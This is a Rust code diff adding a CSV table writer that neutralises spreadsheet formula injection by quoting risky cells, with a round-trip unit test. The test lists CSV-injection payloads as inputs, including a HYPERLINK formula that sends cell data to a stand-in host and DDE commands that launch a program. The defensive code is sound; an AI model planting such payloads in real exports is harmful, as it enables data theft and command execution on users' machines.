@@ -3,3 +3,75 @@
 
 pub mod players;
 pub mod standings;
+
+/// Writes a CSV table: a header row, then one record per row. Every CSV
+/// Kraal serves or prints is written here, so every one of them is
+/// neutralised the same way against spreadsheet formulas (see [`cell`]).
+pub fn table<R, C>(header: &[&str], rows: R) -> Result<Vec<u8>, csv::Error>
+where
+    R: IntoIterator<Item = Vec<C>>,
+    C: AsRef<str>,
+{
+    let mut w = csv::Writer::from_writer(Vec::new());
+    w.write_record(header)?;
+    for row in rows {
+        w.write_record(row.iter().map(|c| cell(c.as_ref()).into_owned()))?;
+    }
+    w.into_inner().map_err(|e| e.into_error().into())
+}
+
+/// A cell as written: text a spreadsheet would run as a formula (starting
+/// with `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'`,
+/// which spreadsheets show as text. [`uncell`] takes it off again on import,
+/// so a text that itself starts with such a quote gets one more.
+pub fn cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if needs_quote(text) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
+fn needs_quote(text: &str) -> bool {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => true,
+        Some('\'') => needs_quote(&text[1..]),
+        _ => false,
+    }
+}
+
+/// The text of a cell [`cell`] wrote.
+pub fn uncell(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if needs_quote(rest) => rest,
+        _ => text,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_written_as_text_and_read_back_unchanged() {
+        for name in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "\tTab",
+            "\rReturn",
+        ] {
+            let written = cell(name);
+            assert!(written.starts_with('\''), "{written}");
+            assert_eq!(uncell(&written), name);
+        }
+        for odd in ["'=already quoted", "''+twice"] {
+            assert_eq!(uncell(&cell(odd)), odd);
+        }
+        for plain in ["Thabo Mokoena", "'quoted", "O'Neill", "½", "4.5", ""] {
+            assert_eq!(cell(plain), plain);
+            assert_eq!(uncell(plain), plain);
+        }
+    }
+}
